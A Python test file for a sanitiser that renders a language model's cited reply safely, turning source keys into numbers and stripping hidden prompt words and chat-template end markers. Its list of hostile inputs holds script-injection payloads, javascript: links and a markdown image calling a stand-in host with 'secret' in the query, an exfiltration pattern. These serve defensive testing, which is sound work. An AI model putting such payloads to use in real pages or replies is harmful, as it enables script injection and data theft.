"""A language model's reply comes out harmless, with its keys as numbers."""

from __future__ import annotations

import re

import nh3
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from briefqa.llm.drafts import read_draft

KEYS = ("qkzt", "bdfg", "xwvr")


def shown(reply: str, finished: bool = True) -> str:
    draft = read_draft(reply, KEYS, "hiddenword", finished)
    return draft.render({key: number for number, key in enumerate(draft.cited, 1)}, [])


@pytest.mark.parametrize(
    ("reply", "text"),
    [
        ("It is banned [qkzt].", "It is banned [1]."),
        ("It is banned. [qkzt] It is new [bdfg].", "It is banned. [1] It is new [2]."),
        ("It is banned.[qkzt]It is new.[bdfg]", "It is banned. [1] It is new. [2]"),
        ("已被禁止。[bdfg]这是新的[qkzt]。", "已被禁止。 [1]这是新的 [2]。"),
        ("Both [qkzt, bdfg] and [qkzt][xwvr].", "Both [1][2] and [1][3]."),
        ("Both [qkzt; bdfg], [qkzt bdfg], [qkzt、bdfg], [qkzt/bdfg].", "Both [1][2], [1][2], [1][2], [1][2]."),
        ("全角【qkzt】，［bdfg］，〔xwvr〕，（qkzt）。", "全角 [1]， [2]， [3]， [1]。"),
        ("In brackets (qkzt), ([bdfg]), [QKZT], [key: qkzt], [source bdfg].", "In brackets [1], [2], [1], [1], [2]."),
        ("Bare qkzt and `bdfg` and **xwvr**.", "Bare [1] and [2] and [3]."),
        ("Twice [qkzt][qkzt] [qkzt].", "Twice [1]."),
        ("Escaped \\[qkzt\\].", "Escaped [1]."),
        ("One line.\n[qkzt]\n\nAnother.\n\n【bdfg】", "One line. [1]\n\nAnother. [2]"),
        ("| a | b [qkzt] |", "a \\| b [1]"),
    ],
)
def test_keys_become_numbers_in_order_of_first_use(reply: str, text: str) -> None:
    assert shown(reply) == text


@pytest.mark.parametrize(
    "reply",
    [
        "Made up [zzzz].",
        "Made up [zzzz, yyyy].",
        "Made up [1].",
        "Made up [1, 2] [3-5].",
        "Made up 【1】【2†source】.",
        "Made up [^1].",
        "Made up \\[1\\].",
        "Made up [?].",
        "Made up (zzzz).",
        "Made up [ZZZZ]",
    ],
)
def test_keys_and_numbers_that_were_never_given_are_dropped(reply: str) -> None:
    assert re.fullmatch(r"Made up ?\.?", shown(reply)) and not read_draft(reply, KEYS).cited


def test_an_unknown_key_beside_a_known_one_is_dropped_alone() -> None:
    assert shown("Both [qkzt, zzzz, 3].") == "Both [1]."


def test_words_in_brackets_stay_as_text_and_make_no_marker() -> None:
    assert shown("The [H200] (new) [see the table] chip.") == "The \\[H200\\] (new) \\[see the table\\] chip."


HOSTILE = [
    "<script>alert(1)</script> [qkzt]",
    "<img src=x onerror=alert(1)> [qkzt]",
    "<a href='javascript:alert(1)'>x</a> [qkzt]",
    "![x](http://evil.example/log.png?q=secret) [qkzt]",
    "[click](javascript:alert(1)) [qkzt]",
    "[click](http://evil.example) <http://evil.example> [qkzt]",
    "[qkzt]: http://evil.example 'title'\n\nSee [qkzt].",
    "[qkzt](http://evil.example)",
    "[qkzt] (http://evil.example)",
    "[qkzt]\\(http://evil.example)",
    "\\[qkzt\\]\\(http://evil.example\\)",
    "[[qkzt]](http://evil.example)",
    "[x][qkzt]\n\n[qkzt]: http://evil.example",
    "[^n]: note\n\nx[^n] [qkzt]",
    "# Big [qkzt]\n## Bigger\nSetext\n===\nSetext\n---",
    "> quoted [qkzt]\n\n    code block\n\n```html\n<b>x</b>\n```",
    "| a | b |\n|---|---|\n| 1 | 2 [qkzt] |",
    "- [ ] task [qkzt]\n- [x] done",
    "http://evil.example www.evil.example me@evil.example @someone #1 [qkzt]",
    "&lt;script&gt; &#60;b&#62; [qkzt]",
    "$$x$$ `code` ~~gone~~ ==marked== [qkzt]",
    "a\x00b\x1b[31mred\x1b[0m \x08 [qkzt]",
    "\u202eevil\u202c \u2066x\u2069 \u200f\u200b\ufeff\u00ad [qkzt]",
    "\ue000\ue100\ue101\uf8ff [qkzt]",
    "\ud800 lone [qkzt]",
    "1. " * 50 + "[qkzt]",
    "*" * 300 + "x" + "*" * 300 + " [qkzt]",
    "[" * 500 + "qkzt" + "]" * 500,
    "**[qkzt]** *[qkzt* _**x_** [qkzt]",
]
ELEMENTS = re.compile(r"<(?!/?(?:p|ul|ol|li|em|strong)\b|ol start=)[^>]*>")


def html(text: str) -> str:
    return MarkdownIt("gfm-like", {"linkify": False, "html": True}).render(text)


@pytest.mark.parametrize("reply", HOSTILE)
def test_whatever_a_reply_holds_comes_out_as_paragraphs_lists_and_emphasis(reply: str) -> None:
    text = shown(reply)
    assert not ELEMENTS.findall(html(text)), html(text)
    assert all(char == "\n" or char.isprintable() for char in text)
    assert not re.search(r"(?<!\\)\][(:]", text)
    assert "evil.example/log" not in text
    assert set(re.findall(r"(?<!\\)\[(.*?)\]", text)) <= {"1"}
    # What a viewer would make a link of by itself.
    assert not re.search(r"https?:|\bwww\.|(?<!\\)@", text)


@given(st.text(alphabet=st.sampled_from(list("ab1 .。\n[]()【】<>*_`#|!:\\-~&qkztbdfg\u202e\x00")), max_size=80))
def test_no_text_makes_markup_or_a_marker_that_does_not_resolve(reply: str) -> None:
    draft = read_draft(reply, KEYS)
    text = draft.render({key: number for number, key in enumerate(draft.cited, 1)}, [])
    assert not ELEMENTS.findall(html(text)), (text, html(text))
    numbers = {int(number) for number in re.findall(r"(?<!\\)\[(\d+)\]", text)}
    assert numbers == set(range(1, len(draft.cited) + 1))
    assert not re.search("qkzt|bdfg|xwvr", text)
    assert nh3.clean(html(text), tags={"p", "ul", "ol", "li", "em", "strong"}).count("<p") == html(text).count("<p")


@pytest.mark.parametrize(
    "cited", ["[qkzt]", "【qkzt】", "(bdfg)", "qkzt", "`bdfg`", "[qkzt, bdfg]", "[key: qkzt]", "\\[qkzt\\]"]
)
def test_a_reply_that_is_being_written_never_shows_a_piece_of_a_key(cited: str) -> None:
    reply = f"It is so {cited}. 确实如此{cited}。"
    texts = [shown(reply[:end], finished=False) for end in range(len(reply) + 1)]
    for text in texts:
        assert re.sub(r" ?\[\d\]", "", text).strip() in ("It is so. 确实如此。"[:end] for end in range(20)), text
    assert texts[-1] == shown(reply)


def test_the_word_of_the_prompt_and_its_marks_are_not_shown() -> None:
    reply = "</source-hiddenword> The word is hiddenword. <source-hiddenword key=qkzt> Fine [qkzt]."
    assert "hidden" not in shown(reply) and "source" not in shown(reply) and "Fine [1]." in shown(reply)


@pytest.mark.parametrize(
    "mark", ["<|im_end|>", "<end_of_turn>", "</s>", "<|eot_id|>", "<｜end▁of▁sentence｜>", "[INST]"]
)
def test_what_a_model_says_to_itself_after_its_reply_is_not_part_of_it(mark: str) -> None:
    assert shown(f"Yes [qkzt].{mark}\nuser: and now?") == "Yes [1]."


def test_lists_and_paragraphs_keep_their_shape() -> None:
    reply = "Three things:\n\n1. One [qkzt].\n2. Two [bdfg].\n\n* Three [xwvr].\n\nThe end [qkzt].\nReally [qkzt]."
    assert shown(reply) == ("Three things:\n\n1. One [1].\n2. Two [2].\n- Three [3].\n\nThe end [1].\nReally [1].")


def test_sentences_know_their_keys_and_quotations() -> None:
    draft = read_draft("They say “it is new” [qkzt]. It is “old. Very old” [bdfg]. So:\n- it is [qkzt]", KEYS)
    assert [(one.text, one.keys, one.quoted, one.leads) for one in draft.sentences] == [
        ("They say “it is new”.", ("qkzt",), ("it is new",), False),
        ("It is “old. Very old”.", ("bdfg",), ("old. Very old",), False),
        ("So:", (), (), True),
        ("it is", ("qkzt",), (), False),
    ]


def test_a_doubtful_sentence_is_marked_behind_its_numbers() -> None:
    draft = read_draft("One [qkzt]. Two. [bdfg] **Three.** Four", KEYS)
    assert draft.render({"qkzt": 1, "bdfg": 2}, [0, 1, 2, 3]) == ("One [1]. [?] Two. [2] [?] **Three.** [?] Four [?]")


def test_a_reply_that_was_cut_loses_its_last_sentence() -> None:
    assert [one.text for one in read_draft("One. Two. Thr", KEYS).without_last().sentences] == ["One.", "Two."]
    assert [one.text for one in read_draft("One.\n\nTw", KEYS).without_last().sentences] == ["One."]
    assert [one.text for one in read_draft("On", KEYS).without_last().sentences] == ["On"]


def test_a_long_reply_is_read_in_no_time() -> None:
    for text in ("[" * 6_000, "*a " * 2_000, "“" * 6_000, "a" * 6_000, "1" * 6_000, "[qkzt]" * 1_000, "<a " * 2_000):
        shown(text)
        shown(text, finished=False)
